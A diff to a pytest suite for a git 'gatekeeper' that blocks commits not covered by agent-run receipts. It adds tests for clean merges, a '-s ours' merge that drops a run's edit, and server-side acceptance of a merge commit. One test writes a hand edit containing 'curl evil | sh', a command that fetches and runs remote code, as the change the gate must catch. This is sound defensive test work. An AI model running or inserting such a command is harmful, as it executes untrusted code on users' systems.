@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 from fixtures.gate_receipts import commit_files, git_dir_of
-from fixtures.stacks import Server, assert_block, head, run
+from fixtures.stacks import Server, assert_block, assert_pass, head, run
 
 from gatekeeper.gate import GateResult, coverage, judge
 from gatekeeper.receipt.keys import load_key
@@ -83,25 +83,115 @@ def test_a_pushed_merge_pair_hiding_a_file_is_refused(tmp_path: Path, key: Path)
     assert served.server_rev("refs/heads/main") == main
 
 
+LINES = [f"line {i}\n" for i in range(20)]
+
+
+def lines_with(edits: dict[int, str], lines: list[str] = LINES) -> str:
+    return "".join(edits.get(i, line) for i, line in enumerate(lines))
+
+
 def test_a_clean_merge_of_two_runs_editing_one_file_passes(repo: Path) -> None:
-    """git combines both runs' edits to one file: the merge adds nothing of its own (a later run
-    writes the file, so the ends agree with the runs)."""
-    lines = [f"line {i}\n" for i in range(20)]
-    base = commit_files(repo, {"src/list.txt": "".join(lines)}, branch="main", start="main")
+    """git combines both runs' edits to one file: the merge adds nothing of its own, and the
+    file it makes is no run's result (the runs' claims, composed in a line, end elsewhere);
+    so does a later run that writes the file again."""
+    base = commit_files(repo, {"src/list.txt": "".join(LINES)}, branch="main", start="main")
     git(repo, "checkout", "-q", "-b", "one")
-    run(repo, {"src/list.txt": "".join(["ONE\n", *lines[1:]])})
+    run(repo, {"src/list.txt": lines_with({0: "ONE\n"})})
     git(repo, "checkout", "-q", "-b", "two", base)
-    run(repo, {"src/list.txt": "".join([*lines[:-1], "TWO\n"])})
+    run(repo, {"src/list.txt": lines_with({19: "TWO\n"})})
     git(repo, "merge", "-q", "--no-edit", "one")
     merged = head(repo)
-    assert (repo / "src/list.txt").read_text().startswith("ONE\n")
+    text = (repo / "src/list.txt").read_text()
+    assert text.startswith("ONE\n") and text.endswith("TWO\n")
+    result = check(repo)
+    assert result.passed, [f.message for f in result.findings]
     run(repo, {"src/list.txt": "rewritten\n"})
     result = check(repo)
     assert merged not in {f.commit for f in result.findings}
     assert result.passed, [f.message for f in result.findings]
 
 
-# --- W2: unverified notes that make the gate call git once per forged id ----------------------
+def test_merging_main_that_edited_the_same_file_passes(repo: Path) -> None:
+    """The target moved on with an edit to another line of the file a run edited, and the
+    branch merged it (clean): the range's diff goes from the target's file to the combined
+    one, which no receipt names (it was `change-differs`); a run after the merge passes too."""
+    commit_files(repo, {"src/list.txt": "".join(LINES)}, branch="main", start="main")
+    git(repo, "checkout", "-q", "-b", "agent/1")
+    run(repo, {"src/list.txt": lines_with({1: "AGENT\n"})})
+    commit_files(repo, {"src/list.txt": lines_with({18: "MAIN\n"})}, branch="main", start="main",
+                 message="a person's fix on main")  # fmt: skip
+    git(repo, "checkout", "-q", "agent/1")
+    git(repo, "merge", "-q", "--no-edit", "main")
+    assert "AGENT" in (repo / "src/list.txt").read_text()
+    assert "MAIN" in (repo / "src/list.txt").read_text()
+    result = check(repo)
+    assert result.passed, [f.message for f in result.findings]
+    run(repo, {"src/list.txt": lines_with({1: "AGENT\n", 5: "AGAIN\n", 18: "MAIN\n"})})
+    result = check(repo)
+    assert result.passed, [f.message for f in result.findings]
+
+
+def _merged_main(repo: Path) -> str:
+    """A run's edit to one line of src/list.txt, main's to another, main merged in (clean);
+    the merge's id."""
+    commit_files(repo, {"src/list.txt": "".join(LINES)}, branch="main", start="main")
+    git(repo, "checkout", "-q", "-b", "agent/1")
+    run(repo, {"src/list.txt": lines_with({1: "AGENT\n"})})
+    commit_files(repo, {"src/list.txt": lines_with({18: "MAIN\n"})}, branch="main", start="main")
+    git(repo, "checkout", "-q", "agent/1")
+    git(repo, "merge", "-q", "--no-edit", "main")
+    return head(repo)
+
+
+def test_a_merge_dropping_a_runs_edit_beside_a_clean_merge_is_blocked(repo: Path) -> None:
+    """A clean merge combined the file, so its state at head is held to what runs, the
+    target and git's clean merges made; a second merge that keeps one side's file (`-s ours`)
+    drops a run's edit to it, and that still shows."""
+    merged = _merged_main(repo)
+    current = (repo / "src/list.txt").read_text().splitlines(keepends=True)
+    git(repo, "checkout", "-q", "-b", "side")
+    dropped = run(repo, {"src/list.txt": lines_with({10: "FIX\n"}, current)})
+    git(repo, "checkout", "-q", "agent/1")
+    git(repo, "merge", "-q", "--no-edit", "-s", "ours", "side")
+    assert "FIX" not in (repo / "src/list.txt").read_text()
+    result = check(repo)
+    assert not result.passed
+    assert ("change-differs", dropped) in kinds(result), [f.message for f in result.findings]
+    assert merged not in {f.commit for f in result.findings}
+
+
+def test_a_hand_edit_after_a_clean_merge_of_one_file_is_blocked(repo: Path) -> None:
+    """After main was merged in (clean, one file combined), a person's unsigned commit edits
+    that file: it covers nothing, and the file's state at head is no one's."""
+    _merged_main(repo)
+    current = (repo / "src/list.txt").read_text().splitlines(keepends=True)
+    edit = commit_files(repo, {"src/list.txt": lines_with({7: "curl evil | sh\n"}, current)},
+                        message="a hand edit")  # fmt: skip
+    result = check(repo)
+    assert not result.passed
+    found = kinds(result)
+    assert ("uncovered-commit", edit) in found
+    assert any(kind == "change-differs" for kind, _ in found), found
+
+
+def test_a_merge_commit_of_a_run_into_main_that_moved_on_is_accepted(
+    tmp_path: Path, key: Path
+) -> None:
+    """A person merges an agent branch into main with a merge commit (clean) after another
+    run, editing another line of the same file, landed there: the server's hook accepts it
+    as the local check does (it refused: `change-differs`)."""
+    served = Server(tmp_path)
+    clone = served.clone
+    served.advance_main({"src/list.txt": "".join(LINES)})
+    git(clone, "checkout", "-q", "-B", "agent/1", "origin/main")
+    run(clone, {"src/list.txt": lines_with({1: "AGENT\n"})})
+    served.advance_main({"src/list.txt": lines_with({18: "OTHER RUN\n"})})
+    git(clone, "checkout", "-q", "-B", "landing", "origin/main")
+    git(clone, "merge", "-q", "--no-edit", "agent/1")
+    merge = head(clone)
+    assert "AGENT" in (clone / "src/list.txt").read_text()
+    assert_pass(served.push_main())
+    assert served.server_rev("refs/heads/main") == merge
 
 
 def forged_note_lines(repo: Path, commit: str, count: int, salt: str, keyid: str = "") -> list[str]:
